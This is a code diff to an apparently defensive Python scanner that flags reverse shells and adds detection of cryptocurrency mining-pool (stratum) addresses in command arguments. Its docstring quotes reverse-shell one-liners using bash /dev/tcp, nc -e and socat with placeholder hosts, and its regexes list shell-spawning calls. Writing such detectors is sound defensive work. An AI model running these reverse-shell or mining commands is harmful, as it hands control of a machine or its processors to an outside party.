@@ -1,7 +1,8 @@
-"""A shell handed to another machine: its input and output wired to a socket on a host that is not the project's
-(`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, `socat exec:bash tcp:HOST:PORT`, a one-line
-program that connects and spawns a shell). Whoever listens there types the next commands: an executor fed from the
-network, read from the command whatever the prose around it says."""
+"""The machine handed to another: a shell whose input and output are wired to a socket on a host that is not the
+project's (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, `socat exec:bash tcp:HOST:PORT`, a
+one-line program that connects and spawns a shell): whoever listens there types the next commands, an executor fed
+from the network (ACT003). Or its processors given to a mining pool (a `stratum+tcp://HOST:PORT` address): work
+for someone else that runs past the session (ACT009). Read from the command whatever the prose around it says."""
 from __future__ import annotations
 
 import re
@@ -21,6 +22,7 @@ EXEC_FLAGS = frozenset(("-e", "-c", "--exec", "--sh-exec", "--lua-exec"))
 SOCAT_TARGET = lazy(r"^(?:tcp|tcp4|tcp6|tcp-connect|openssl|openssl-connect|udp|udp4|udp-connect):([^:,\s]+):(\d+)",
                     re.I)
 PROGRAM_CONNECT = lazy(r"connect\(\s*\(\s*['\"]?([\w.-]+)['\"]?\s*,\s*(\d+)")
+STRATUM = lazy(r"\bstratum(?:\+[a-z0-9]+)*://([\w.-]+):(\d+)", re.I)  # (the mining pools' protocol)
 PROGRAM_SHELL = lazy(r"pty\.spawn|os\.dup2|\bexec\s*\(|subprocess|/bin/(?:ba)?sh|IO\.popen|\bfork\b")
 
 
@@ -38,6 +40,12 @@ def remote_shells(cand: Candidate, walk: Walk) -> list[tuple[str, str, str, str 
         else:
             found.append(("ACT003", f"the shell opens a socket to {host}:{port}, which is not the project's",
                           "warning", target))
+    given = " ".join(a for p in cand.pipelines for c in p for a in c.argv[1:])  # (an argument, not an address alone)
+    for pool in STRATUM.finditer(given) if "stratum" in given.lower() else ():
+        target = f"tcp://{pool.group(1)}:{pool.group(2)}"
+        if "." in pool.group(1) and not walk.trusted(target):
+            found.append(("ACT009", f"the machine's processors given to a mining pool at {pool.group(1)} "
+                                    "(stratum), working for someone else past the session", "error", target))
     return found
 
 
